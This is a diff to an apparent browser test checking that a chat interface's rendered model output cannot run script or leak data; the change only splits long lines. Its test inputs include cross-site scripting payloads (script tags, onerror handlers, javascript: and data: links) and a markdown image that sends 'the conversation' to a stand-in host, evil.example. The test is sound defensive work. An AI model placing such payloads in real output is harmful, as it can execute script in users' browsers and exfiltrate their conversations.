@@ -55,7 +55,8 @@ test('model output with script, javascript: link, remote image, SVG does nothing
   const attack = [
     '<script>alert(1)</script><svg onload=alert(1)><circle r=1></svg><img src=x onerror=alert(1)>',
     '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
-    '![secret](https://evil.example/?q=the+conversation) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+    '![secret](https://evil.example/?q=the+conversation) ' +
+      '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
     '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png} \\htmlData{a=b}{y}$$',
     '```html\n<script>alert(1)</script>\n```',
     'A note.[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
@@ -68,7 +69,8 @@ test('model output with script, javascript: link, remote image, SVG does nothing
   for (const link of await answer.locator('.prose a').all()) await link.click();
   expect(await page.evaluate(() => (window as { hit?: boolean }).hit)).toBeUndefined();
   const parts =
-    '.prose :is(script, iframe, object, embed, form, style, img, svg, [onload], [onerror], [onclick]):not(:is(button, .katex) *)';
+    '.prose :is(script, iframe, object, embed, form, style, img, svg, [onload], [onerror], ' +
+    '[onclick]):not(:is(button, .katex) *)';
   expect(await answer.locator(parts).evaluateAll((found) => found.map((element) => element.outerHTML))).toEqual([]);
   expect(
     await answer
